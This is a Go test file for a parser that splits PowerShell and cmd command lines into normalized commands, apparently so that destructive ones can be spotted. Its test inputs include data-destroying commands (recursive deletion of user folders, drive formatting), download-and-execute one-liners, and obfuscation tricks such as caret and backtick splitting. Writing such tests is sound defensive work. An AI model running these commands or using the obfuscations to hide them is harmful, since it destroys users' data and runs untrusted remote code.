package wincmd

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/boathook/boathook/internal/shellcmd/word"
)

// show writes commands, one in a line; ¿ is what is not known.
func show(cmds []word.Command, unsure bool) string {
	var lines []string
	for _, c := range cmds {
		t := strings.Join(word.Texts(c.Argv), " ")
		if c.Op != "" {
			t = "op " + c.Op + " " + t
		}
		for _, r := range c.Redirects {
			t += " " + r.FD + r.Op + r.Target.Text
		}
		if c.User != "" {
			t += " @" + c.User
		}
		lines = append(lines, strings.ReplaceAll(t, word.Unknown, "¿"))
	}
	if unsure {
		lines = append(lines, "unsure")
	}
	return strings.Join(lines, "\n")
}

func check(t *testing.T, shell string, cases [][2]string) {
	t.Helper()
	for _, tt := range cases {
		t.Run(shell+"/"+tt[0], func(t *testing.T) {
			cmds, unsure := Split(shell, tt[0])
			if diff := cmp.Diff(tt[1], show(cmds, unsure)); diff != "" {
				t.Errorf("%s\n%s", tt[0], diff)
			}
		})
	}
}

func TestPowerShell(t *testing.T) {
	check(t, "powershell", [][2]string{
		{"Get-Date", "Get-Date"},
		{"Write-Output 'Remove-Item x'", "Write-Output Remove-Item x"},
		{"Remove-Item -Recurse -Force C:\\Users", `Remove-Item -Recurse -Force C:\Users`},
		{"rm -r -fo ~/x", "Remove-Item -Recurse -Force ~/x"},
		{"ri -Rec:$true \"C:\\x y\" ; del a,b", "Remove-Item -Recurse C:\\x y\nRemove-Item a b"},
		{"REMOVE-ITEM x", "Remove-Item x"},
		{"Remove-Item $env:USERPROFILE -Recurse", "Remove-Item ~ -Recurse"},
		{"Remove-Item \"$HOME\\x\"", `Remove-Item ~\x`},
		{"$p = 'C:\\x'; Remove-Item $p -Recurse", `Remove-Item C:\x -Recurse`},
		{"Get-ChildItem C:\\x | Remove-Item -Force", "Get-ChildItem C:\\x\nRemove-Item -Force C:\\x/¿"},
		{"gci C:\\x -Recurse | % { ri $_.FullName }", "Get-ChildItem C:\\x -Recurse\nRemove-Item C:\\x/¿"},
		{"foreach ($d in 'a','b') { rd $d -r }", "Remove-Item a b -Recurse"},
		{"& 'rm' x", "Remove-Item x"},
		{"& \"C:\\a b\\c.exe\" -x", `C:\a b\c.exe -x`},
		{"&('Remo'+'ve-Item') x", "Remove-Item x"},
		{"iex 'Remove-Item x'", "Remove-Item x"},
		{"'Remove-Item x' | iex", "Remove-Item x"},
		{"Invoke-Expression $x", "Invoke-Expression ¿\nunsure"},
		{"iwr http://a/b | iex", "Invoke-WebRequest http://a/b\nInvoke-Expression\nunsure"},
		{"iex (New-Object Net.WebClient).DownloadString('http://a')", "New-Object Net.WebClient\nop fetch http://a\nInvoke-Expression ¿\nunsure"},
		{"iex (iwr http://a).Content", "Invoke-WebRequest http://a\nInvoke-Expression ¿\nunsure"},
		{"Start-Process cmd -ArgumentList '/c rd /s /q C:\\x' -Verb RunAs", `cmd /c rd /s /q C:\x @root`},
		{"cmd /c \"rd /s /q C:\\x\"", `cmd /c rd /s /q C:\x`},
		{"if (Test-Path x) { Remove-Item x }", "Test-Path x\nRemove-Item x"},
		{"[System.IO.Directory]::Delete('C:\\x', $true)", `op delete C:\x`},
		{"[IO.File]::WriteAllText(\"a\", \"b\")", "op overwrite a"},
		{"echo hi > a.txt", "Write-Output hi >a.txt"},
		{"npm test 2>&1 | Out-String", "npm test\nOut-String"},
		{"R`emove-It`em x", "Remove-Item x"},
		{"@'\nRemove-Item x\n'@ | Set-Content a.ps1", "Set-Content a.ps1"},
		{"# Remove-Item x\nGet-Date", "Get-Date"},
		{"<# Remove-Item x #> Get-Date", "Get-Date"},
		{"git status && git diff", "git status\ngit diff"},
		{"Get-Content a | Select-String 'rm'", "Get-Content a\nSelect-String rm"},
		{"Remove-Item -Path (Join-Path $HOME 'x') -Recurse", `Remove-Item -Path ~\x -Recurse`},
		{"Stop-Process -Name node -Force", "Stop-Process -Name node -Force"},
		{"$x = Get-Content a.json | ConvertFrom-Json; $x.version", "Get-Content a.json\nConvertFrom-Json"},
		{"Format-Volume -DriveLetter C", "Format-Volume -DriveLetter C"},
	})
}

func TestCmd(t *testing.T) {
	check(t, "cmd", [][2]string{
		{"dir", "dir"},
		{"rd /s /q C:\\x", `rd /s /q C:\x`},
		{"RD/S/Q \"C:\\a b\"", `rd /S /Q C:\a b`},
		{"del /f/s/q *.*", "del /f /s /q *.*"},
		{"echo del x", "echo del x"},
		{"echo hi & del x", "echo hi\ndel x"},
		{"echo \"a & del x\"", "echo a & del x"},
		{"d^el x", "del x"},
		{"rd /s /q %USERPROFILE%", "rd /s /q ~"},
		{"rd /s /q %FOO%", "rd /s /q ¿"},
		{"set X=del& %X% y", "del y"},
		{"if exist x (rd /s /q x) else echo no", "rd /s /q x\necho no"},
		{"for %i in (a b) do rd /s /q %i", "rd /s /q a\nrd /s /q b"},
		{"for /d %i in (C:\\x\\*) do rd /s /q %i", `rd /s /q C:\x\*`},
		{"call del x", "del x"},
		{"start \"\" /b cmd /c del x", "cmd /c del x"},
		{"@echo off\r\nrem del x\r\n:: del y\r\ndel z", "echo off\ndel z"},
		{"echo hi > a.txt 2>nul", "echo hi >a.txt 2>nul"},
		{"powershell -c \"Remove-Item x\"", "powershell -c Remove-Item x"},
		{"format C: /y", "format C: /y"},
		{"echo y | format C:", "echo y\nformat C:"},
		{"cmd /c \"del x\"", "cmd /c del x"},
		{"C:\\Windows\\System32\\cmd.exe /c del x", "cmd /c del x"},
	})
}
